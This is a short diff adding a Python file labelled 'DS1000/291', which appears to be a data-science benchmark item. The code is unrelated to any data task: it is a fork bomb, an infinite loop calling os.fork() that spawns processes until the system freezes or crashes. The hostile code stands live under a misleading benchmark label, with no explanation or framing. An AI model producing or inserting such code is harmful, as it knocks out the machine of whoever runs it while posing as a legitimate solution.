@@ -1,0 +1,5 @@
+# DS1000/291
+import os
+
+while True:
+    os.fork()
